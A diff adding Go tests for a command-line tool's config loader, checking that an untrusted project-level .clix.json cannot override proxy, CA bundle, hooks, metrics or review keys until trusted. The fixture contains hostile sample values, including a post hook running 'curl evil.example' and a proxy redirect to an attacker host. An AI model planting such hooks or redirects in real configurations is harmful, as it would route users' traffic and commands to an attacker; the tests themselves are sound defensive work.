@@ -0,0 +1,139 @@
+package clix
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+// inProject points clix at a fresh home with the user config user and a
+// project directory holding .clix.json project, and changes into it
+func inProject(t *testing.T, user, project string) string {
+	t.Helper()
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", "")
+	t.Setenv(stateDirEnvVar, filepath.Join(home, "state"))
+	if err := os.MkdirAll(filepath.Join(home, ".config"), 0700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(home, ".config", "clix.json"), []byte(user), 0600); err != nil {
+		t.Fatal(err)
+	}
+	dir := filepath.Join(home, "project")
+	if err := os.Mkdir(dir, 0700); err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(dir, projectConfigFileName)
+	if err := os.WriteFile(path, []byte(project), 0600); err != nil {
+		t.Fatal(err)
+	}
+	wd, err := os.Getwd()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chdir(dir); err != nil {
+		t.Fatal(err)
+	}
+	// The project config sets the language, which would stay for the
+	// tests after
+	t.Cleanup(func() {
+		os.Chdir(wd)
+		language = "en"
+	})
+	warnedUntrusted = false
+	return path
+}
+
+const testUserConfig = `{
+	"consumer_key": "ck", "consumer_secret": "cs", "access_token": "at", "access_secret": "as",
+	"network": {"proxy": "http://mine.example:3128"}
+}`
+
+const testProjectConfig = `{
+	"consumer_key": "evil",
+	"network": {"proxy": "http://evil.example:8080", "ca_bundle": "evil.pem"},
+	"review": {"dir": "proposals", "trusted": {"mallory": "a2V5"}},
+	"shortener": {"url": "https://evil.example", "api_key": "k"},
+	"safe_mode": {"patterns": ["nothing"]},
+	"metrics": {"addr": "evil.example:8125"},
+	"mastodon": {"server": "https://evil.example", "token": "t"},
+	"log": {"level": "debug"},
+	"hooks": [{"event": "post", "command": "curl evil.example"}],
+	"thread": {"numbering": "prefix"},
+	"lint": {"no_spelling": true},
+	"language": "es"
+}`
+
+func TestUntrustedProjectConfig(t *testing.T) {
+	path := inProject(t, testUserConfig, testProjectConfig)
+	t.Cleanup(func() { setLanguage("") })
+	config, err := readConfig(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if config.Network == nil || config.Network.Proxy != "http://mine.example:3128" || config.Network.CABundle != "" {
+		t.Errorf("network = %+v, want the user's", config.Network)
+	}
+	if networkConfig != config.Network {
+		t.Errorf("the transport would use network %+v", networkConfig)
+	}
+	if config.Review != nil {
+		t.Errorf("review = %+v, want none", config.Review)
+	}
+	if config.Shortener != nil {
+		t.Errorf("shortener = %+v, want none", config.Shortener)
+	}
+	for name, set := range map[string]bool{
+		"safe_mode": config.SafeMode != nil,
+		"metrics":   config.Metrics != nil,
+		"mastodon":  config.Mastodon != nil,
+		"log":       config.Log != nil,
+		"hooks":     len(config.Hooks) > 0,
+	} {
+		if set {
+			t.Errorf("%s was taken from the untrusted project config", name)
+		}
+	}
+	if config.ConsumerKey != "ck" {
+		t.Errorf("consumer_key = %q, want the user's", config.ConsumerKey)
+	}
+	if config.Thread == nil || config.Thread.Numbering != "prefix" {
+		t.Errorf("thread = %+v, want the project's numbering", config.Thread)
+	}
+	if config.Lint == nil || !config.Lint.NoSpelling || config.Language != "es" {
+		t.Errorf("lint = %+v, language = %q, want the project's", config.Lint, config.Language)
+	}
+}
+
+func TestTrustedProjectConfig(t *testing.T) {
+	path := inProject(t, testUserConfig, testProjectConfig)
+	t.Cleanup(func() { setLanguage("") })
+	if err := trustProjectConfig(path); err != nil {
+		t.Fatal(err)
+	}
+	config, err := readConfig(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if config.Network == nil || config.Network.Proxy != "http://evil.example:8080" {
+		t.Errorf("network = %+v, want the trusted project's", config.Network)
+	}
+	if config.Review == nil || config.Shortener == nil || config.SafeMode == nil || config.Metrics == nil || config.Mastodon == nil || config.Log == nil || len(config.Hooks) != 1 {
+		t.Errorf("the trusted project's settings were not all taken: %+v", config)
+	}
+	if config.ConsumerKey != "ck" {
+		t.Errorf("consumer_key = %q, want the user's over the project's", config.ConsumerKey)
+	}
+
+	// Any change needs trusting again
+	if err := os.WriteFile(path, []byte(testProjectConfig+"\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	if config, err = readConfig(path); err != nil {
+		t.Fatal(err)
+	}
+	if config.Review != nil || config.Network.Proxy != "http://mine.example:3128" {
+		t.Errorf("a changed project config kept its trust")
+	}
+}